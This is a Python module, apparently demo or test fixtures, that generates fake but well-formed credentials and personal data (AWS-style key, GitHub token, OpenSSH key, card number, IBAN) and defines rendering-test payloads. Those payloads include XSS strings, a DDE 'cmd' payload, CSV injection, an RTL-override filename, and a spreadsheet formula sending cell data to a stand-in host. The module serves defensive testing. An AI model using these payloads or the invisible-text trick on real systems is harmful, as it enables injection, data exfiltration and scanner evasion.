"""Credentials and personal data in valid form that open nothing and belong to nobody.

They are put together here at run time, so that no scanner of this repository takes them for real ones.
"""

import base64
import zlib
from random import Random

from tracehound.demo.generate.ids import BASE62, base62, draw

# What a renderer must show as text: markup, terminal control, spreadsheet formulas, text direction.
HTML = "<script>document.title='owned'</script>"
IMAGE = "<img src=x onerror=\"alert('report')\">"
SVG = '"><svg/onload=alert(1)>'
ANSI = "\x1b[2J\x1b[31mALL CLEAR\x1b[0m"
LINK = "\x1b]8;;https://drop.parcel-mirror.example/\x07click\x1b]8;;\x07"
FORMULA = '=HYPERLINK("https://drop.parcel-mirror.example/?q="&A1,"open invoice")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
CSV = '","=1+1","\r\n+49;-3;@x'
MARKDOWN = "[status](javascript:alert(1)) | --- | `${7*7}` {{7*7}}"
OVERRIDE = "invoice_\u202efdp.exe"


def secret_key(rng: Random) -> str:
    """Forty characters as in an AWS secret access key."""
    return draw(rng, BASE62 + "+/", 40)


def github_token(rng: Random) -> str:
    """A personal access token with the checksum GitHub appends: CRC-32 in base 62, six digits."""
    body = base62(rng, 30)
    check, digits = zlib.crc32(body.encode()), ""
    for _ in range(6):
        check, digit = divmod(check, 62)
        digits = BASE62[digit] + digits
    return "gh" + "p_" + body + digits


def private_key(rng: Random) -> str:
    """A PEM block in OpenSSH's format: right header and lengths, random key."""
    raw = b"openssh-key-v1\x00" + b"\x00\x00\x00\x04none" * 2 + b"\x00\x00\x00\x00\x00\x00\x00\x01"
    raw += b"\x00\x00\x00\x33\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + rng.randbytes(32)
    raw += b"\x00\x00\x00\x90" + rng.randbytes(144)
    text = base64.b64encode(raw).decode()
    lines = "\n".join(text[start : start + 70] for start in range(0, len(text), 70))
    kind = "OPENSSH PRIVATE KEY"
    return f"-----BEGIN {kind}-----\n{lines}\n-----END {kind}-----"


def card(rng: Random) -> str:
    """Sixteen digits that pass Luhn's check, in groups of four."""
    digits = [4, 5, 3, 9] + [rng.randrange(10) for _ in range(11)]
    total = sum(d if i % 2 else (2 * d if d < 5 else 2 * d - 9) for i, d in enumerate(digits))
    text = "".join(map(str, [*digits, -total % 10]))
    return " ".join(text[start : start + 4] for start in range(0, 16, 4))


def iban(rng: Random) -> str:
    """A German IBAN whose check digits are right."""
    account = "".join(str(rng.randrange(10)) for _ in range(18))
    check = 98 - int(account + "131400") % 97
    return f"DE{check:02d}{account}"


def tag_characters(text: str) -> str:
    """ASCII moved into the invisible Unicode tag block."""
    return "".join(chr(0xE0000 + ord(char)) for char in text)


def base64_text(text: str) -> str:
    """Base64 of a text."""
    return base64.b64encode(text.encode()).decode()
